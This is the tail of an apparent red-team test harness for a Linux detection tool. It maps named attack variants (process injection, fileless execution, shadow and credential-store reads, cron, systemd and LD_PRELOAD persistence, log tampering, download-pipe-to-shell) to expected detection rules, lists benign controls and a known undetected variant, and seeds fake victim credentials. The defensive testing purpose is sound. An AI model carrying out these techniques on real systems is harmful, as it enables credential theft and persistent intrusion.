    "inj_ptrace_seize_setregs": _v(inj_ptrace_seize_setregs, "ptrace_attach", "ptrace_poke"),
    "inj_vm_writev_py": _v(inj_vm_writev_py, "process_vm_writev"),
    "inj_procmem_dirfd": _v(inj_procmem_dirfd, "proc_mem_write"),
    "inj_procmem_dd": _v(inj_procmem_dd, "proc_mem_write"),
    "inj_gdb_call": _v(inj_gdb_call, "gdb_batch_injection"),
    "anti_traceme_py": _v(anti_traceme_py, "ptrace_traceme"),
    "anti_dumpable_py": _v(anti_dumpable_py, "prctl_dumpable_disabled"),
    "fl_python_fexecve": _v(fl_python_fexecve, "fileless_exec_fd", "argv0_masquerade"),
    "fl_perl_memfd": _v(fl_perl_memfd, "fileless_exec_fd", "argv0_masquerade"),
    "fl_symlink_to_memfd": _v(fl_symlink_to_memfd, "fileless_exec_fd"),
    "fl_run_lock_exec": _v(fl_run_lock_exec, "exec_from_tmp_shm"),
    "fl_self_delete": _v(fl_self_delete, "self_deleting_executable"),
    "cr_shadow_dd": _v(cr_shadow_dd, "shadow_read"),
    "cr_shadow_tar": _v(cr_shadow_tar, "shadow_read"),
    "cr_shadow_dirfd": _v(cr_shadow_dirfd, "shadow_read"),
    "cr_shadow_chdir": _v(cr_shadow_chdir, "shadow_read"),
    "cr_shadow_symlink": _v(cr_shadow_symlink, "credential_file_link"),
    "cr_sshkey_tar": _v(cr_sshkey_tar, "ssh_key_read_other_user"),
    "cr_environ_other": _v(cr_environ_other, "proc_environ_read"),
    "cr_cloud_creds": _v(cr_cloud_creds, "credential_store_read"),
    "cr_kube_config_py": _v(cr_kube_config_py, "credential_store_read"),
    "cr_browser_logins": _v(cr_browser_logins, "credential_store_read"),
    "pe_cron_rename": _v(pe_cron_rename, "cron_persistence"),
    "pe_systemd_generator": _v(pe_systemd_generator, "systemd_unit_persistence"),
    "pe_bash_aliases": _v(pe_bash_aliases, "shell_profile_persistence"),
    "pe_motd": _v(pe_motd, "rc_script_persistence"),
    "pe_authorized_keys_rename": _v(pe_authorized_keys_rename, "ssh_authorized_keys_write"),
    "pe_ld_preload_rename": _v(pe_ld_preload_rename, "ld_so_preload_write"),
    "pv_setuid_create": _v(pv_setuid_create, "setuid_setgid_bit"),
    "pv_install_setuid": _v(pv_install_setuid, "setuid_setgid_bit"),
    "pv_setxattr_py": _v(pv_setxattr_py, "file_capabilities_set"),
    "bpf_load_py": _v(bpf_load_py, "bpf_program_load"),
    "bpf_renamed_bpftrace": _v(bpf_renamed_bpftrace, "bpf_program_load"),
    "lg_truncate_cmd": _v(lg_truncate_cmd, "log_file_tampering"),
    "lg_redirect_empty": _v(lg_redirect_empty, "log_file_tampering"),
    "lg_wtmp_removed": _v(lg_wtmp_removed, "log_file_tampering"),
    "lg_histfile_empty": _v(lg_histfile_empty, "history_disabled_env"),
    "ds_busybox": _v(ds_busybox, "discovery_burst_multicall"),
    "ds_python_subprocess": _v(ds_python_subprocess, "discovery_burst"),
    "dl_curl_pipe_sh": _v(dl_curl_pipe_sh, "download_pipe_shell"),
    "dl_wget_pipe_bash_script": _v(dl_wget_pipe_bash_script, "download_pipe_shell"),
    "dl_python_urllib_exec": _v(dl_python_urllib_exec, "interpreter_download_exec"),
    "dl_busybox_wget_exec": _v(dl_busybox_wget_exec, "download_then_execute"),
    "dl_python_urlretrieve_exec": _v(dl_python_urlretrieve_exec, "interpreter_download_exec"),
    "dl_curl_exec_shm": _v(dl_curl_exec_shm, "download_then_execute", "exec_from_tmp_shm"),
    # benign
    "bn_git_clone": _v(bn_git_clone),
    "bn_tar_gzip": _v(bn_tar_gzip),
    "bn_venv_pip_wheel": _v(bn_venv_pip_wheel),
    "bn_gcc_build": _v(bn_gcc_build),
    "bn_packages": _v(bn_packages),
    "bn_ssh_keygen": _v(bn_ssh_keygen),
    "bn_systemctl_crontab": _v(bn_systemctl_crontab),
    "bn_curl_local": _v(bn_curl_local),
    "bn_ls_etc_ps": _v(bn_ls_etc_ps),
    "bn_log_append": _v(bn_log_append),
    "bn_ssh_agent": _v(bn_ssh_agent),
    "bn_gdb_backtrace": _v(bn_gdb_backtrace),
    "bn_script_pipe": _v(bn_script_pipe),
    "bn_mmap_own": _v(bn_mmap_own),
    "bn_links_and_removals": _v(bn_links_and_removals),
    "bn_fifo_plumbing": _v(bn_fifo_plumbing),
    "bn_credential_probe": _v(bn_credential_probe),
    "bn_python_urlopen": _v(bn_python_urlopen),
    "bn_busybox_few": _v(bn_busybox_few),
    "bn_create_modes": _v(bn_create_modes),
    "bn_dumpable_on": _v(bn_dumpable_on),
    "bn_app_log_rewrite": _v(bn_app_log_rewrite),
}


#: variants no rule catches yet (docs/detection.md, "Tested variants"): python fetches
#: and writes the payload itself (no download tool) into a subdirectory and runs it (a
#: rule on "an interpreter made a file executable, then it ran" also fired on test
#: harnesses that set up helper programs, and was dropped). Run it with ``redteam.py
#: --ctx CTX --log LOG dl_python_urlretrieve_script`` to see; not asserted by the tests.
#: (rs_node_script, the other miss of the first pass, is caught since the second:
#: child_shell_after_connect.)
KNOWN_MISSES: dict[str, Variant] = {
    "dl_python_urlretrieve_script": _v(dl_python_urlretrieve_script),
}


def make_victim(home: Path) -> None:
    """The files of another account the credential variants read."""
    (home / ".ssh").mkdir(parents=True, exist_ok=True)
    (home / ".ssh" / "id_ed25519").write_text("-----BEGIN OPENSSH PRIVATE KEY-----\nfake\n")
    (home / ".aws").mkdir(exist_ok=True)
    (home / ".aws" / "credentials").write_text("[default]\naws_access_key_id = AKIAFAKE\n")
    (home / ".kube").mkdir(exist_ok=True)
    (home / ".kube" / "config").write_text("apiVersion: v1\nusers: []\n")
    ff = home / ".mozilla" / "firefox" / "x.default"
    ff.mkdir(parents=True, exist_ok=True)
    (ff / "logins.json").write_text("{}\n")


def main(argv: list[str]) -> int:
    import argparse

    ap = argparse.ArgumentParser()
    ap.add_argument("--ctx", required=True)
    ap.add_argument("--log", required=True)
    ap.add_argument("names", nargs="+")
    a = ap.parse_args(argv)
    ctx = Ctx(json.loads(Path(a.ctx).read_text()))
    table = {**VARIANTS, **KNOWN_MISSES}
    unknown = [n for n in a.names if n not in table]
    if unknown:
        print(f"unknown variants: {unknown}", file=sys.stderr)
        return 2
    ctx.port = Listener().port
    ctx.http = Web().port
    run_each(a.names, lambda n: table[n][0](ctx), a.log)
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
